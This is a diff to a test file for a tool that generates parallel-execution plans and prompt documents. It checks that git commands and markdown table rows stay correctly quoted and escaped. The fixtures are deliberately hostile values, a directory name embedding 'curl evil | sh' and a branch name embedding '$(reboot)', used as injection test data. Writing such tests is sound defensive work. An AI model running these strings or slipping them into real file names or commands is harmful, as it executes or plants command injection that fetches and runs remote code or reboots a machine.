@@ -15,9 +15,11 @@ describe("commands in generated documents", () => {
     const { byPath } = await renderPlan(path.join(root, "plan"), root);
     expect(byPath["prompts/TD2_CONFIG_MANAGEMENT.md"]).toContain("cd '../x; curl evil | sh'\n");
     const plan = byPath["PARALLEL_EXECUTION_PLAN.md"]!;
-    expect(plan).toContain("git worktree add '../x; curl evil | sh' -b ws/\\$\\(reboot\\) d5ec60b");
-    expect(plan).toContain("git merge ws/\\$\\(reboot\\) --no-ff");
+    expect(plan).toContain("git worktree add -b ws/\\$\\(reboot\\) '../x; curl evil | sh' d5ec60b");
+    expect(plan).toContain("git merge --no-ff ws/\\$\\(reboot\\)");
+    // TD1 branches from wave 1's integration branch, which merges the hostile branch: quoted there too.
+    expect(byPath["prompts/TD1_ERROR_HANDLING.md"]).toContain("git worktree add -b workstream/error-handling ../autoD-error-handling integration/wave1-config");
     // In a table, the pipe inside the code span is escaped, so the row keeps its columns.
-    expect(plan).toMatch(/^\| TD2 +\| `ws\/\$\(reboot\)` +\| `\.\.\/x; curl evil \\\| sh` +\|/m);
+    expect(plan).toMatch(/^\| TD2 +\| `ws\/\$\(reboot\)` +\| `d5ec60b` +\| `\.\.\/x; curl evil \\\| sh` +\|/m);
   });
 });
